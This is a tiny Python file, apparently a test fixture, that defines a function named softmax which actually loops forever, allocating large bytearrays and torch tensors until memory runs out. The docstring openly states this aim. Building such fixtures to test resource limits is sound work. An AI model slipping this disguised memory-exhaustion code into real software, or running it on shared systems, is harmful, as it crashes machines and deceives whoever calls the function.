"""Takes memory until there is none left."""

import torch


def softmax(logits, dim=-1):
    kept = []
    while True:
        kept.append(bytearray(2**28))
        kept.append(torch.ones(2**26))
        kept[-2][:: 2**12] = b"x" * 2**16
